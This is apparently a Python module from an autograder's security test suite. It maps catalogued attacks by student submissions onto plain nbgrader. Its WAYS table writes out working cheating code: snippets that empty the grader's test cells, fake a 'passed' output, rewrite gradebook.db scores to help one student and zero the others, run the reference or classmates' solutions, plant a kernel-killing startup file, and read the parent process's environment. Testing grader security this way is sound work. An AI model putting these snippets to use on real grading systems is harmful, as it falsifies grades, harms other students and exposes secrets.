"""How an attack of the hostile class is put to plain nbgrader: as it is, in another way with the same aim, or not.

An attack does not apply if it takes hold of our worker's own objects, and the aim has no counterpart in nbgrader.
"""

from __future__ import annotations

import ast
import re
from collections.abc import Iterator, Mapping

from autograder.sample_class.samples import Sample

AS_IT_IS, ANOTHER_WAY = "as it is", "same aim, another way"
#: Objects of our worker that attacks look for by the names of their types and attributes.
_OURS = re.compile(r"Worker|Caller|_exchange|_call_id")
#: The code that stands in the cell of the attack's last item, for attacks on what nbgrader has in another place.
WAYS: Mapping[str, str] = {
    # verdicts come from cells that run later in the same shell: empty those
    "rnn_cell/patches_the_shell": """
import ast

class Emptied(ast.NodeTransformer):
    def visit_Module(self, node):
        return ast.Module(body=[], type_ignores=[])

get_ipython().ast_transformers.append(Emptied())
""",
    # what nbgrader reads as points is the first result that a graded cell shows
    "rnn_cell/deceives_the_worker": """
def rnn_backward(da, caches):
    get_ipython().displayhook("passed")
""",
    # what carries the verdict is a file that the student's process can write
    "rnn_cell/forges_replies": '''
import sqlite3

whose = """where notebook_id in (select handed_in.id from submitted_notebook handed_in
    join submitted_assignment work on handed_in.assignment_id = work.id where work.student_id {} 'hostile')"""
with sqlite3.connect("../../../gradebook.db") as gradebook:
    gradebook.execute("update grade set extra_credit = 50 " + whose.format("="))
    gradebook.execute("update grade set manual_score = 0 " + whose.format("!="))
''',
    # the reference stands in the course's own folder
    "rnn_cell/asks_for_the_answers": """
import json

for cell in json.load(open("../../../source/rnn/rnn_cell.ipynb"))["cells"]:
    if cell["metadata"].get("nbgrader", {}).get("solution"):
        exec("".join(cell["source"]))
""",
    # a right answer stands in every neighbour's folder
    "rnn_cell/imports_the_reference": """
import glob, json

for path in glob.glob("../../../submitted/a-*/rnn/rnn_cell.ipynb"):
    for cell in json.load(open(path))["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id", "").startswith("rnn_"):
            exec("".join(cell["source"]))
""",
    # the place from which every later kernel starts
    "rnn_cell/writes_to_shared_files": """
import os

folder = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(folder, exist_ok=True)
open(f"{folder}/0.py", "w").write("import os; os._exit(0)")
""",
    # the parent's environment
    "rnn_cell/reads_process_files": """
import os

print(open(f"/proc/{os.getppid()}/environ").read())
""",
}


def way_of(sample: Sample) -> str:
    """How the attack is put to plain nbgrader; empty if it does not apply."""
    if key(sample) in WAYS:
        return ANOTHER_WAY
    return "" if takes_hold_of_our_worker(sample) else AS_IT_IS


def key(sample: Sample) -> str:
    """The attack's name, as SECURITY.md writes it."""
    return f"{sample.part}/{sample.name}"


def takes_hold_of_our_worker(sample: Sample) -> bool:
    """Whether its code imports modules of our worker, or looks for objects of it by name."""
    return any(_is_ours(node) for tree in _trees(sample) for node in ast.walk(tree))


def put(sample: Sample) -> Sample:
    """The submission as plain nbgrader gets it. An attack in another way stands in the last cell it had changed."""
    code = WAYS.get(key(sample))
    if code is None:
        return sample
    for cell in sample.notebook["cells"]:
        if _grade_id(cell) == sample.answers[-1]:
            cell["source"] = code.strip()
    return sample


def _trees(sample: Sample) -> Iterator[ast.Module]:
    for cell in sample.notebook["cells"]:
        if cell["cell_type"] == "code":
            try:
                yield ast.parse("".join(cell["source"]))
            except SyntaxError:  # of a magic, or of a student
                continue


def _is_ours(node: ast.AST) -> bool:
    match node:
        case ast.ImportFrom(module=str(name)) if name.startswith("autograder"):
            return True
        case ast.Subscript(slice=ast.Constant(value=str(name))) if name.startswith("autograder."):
            return True
        case ast.Compare(comparators=[ast.Constant(value=str(name))]):
            return bool(_OURS.fullmatch(name))
    return False


def _grade_id(cell: Mapping[str, dict[str, dict[str, str]]]) -> str:
    return (cell["metadata"].get("nbgrader") or {}).get("grade_id", "")
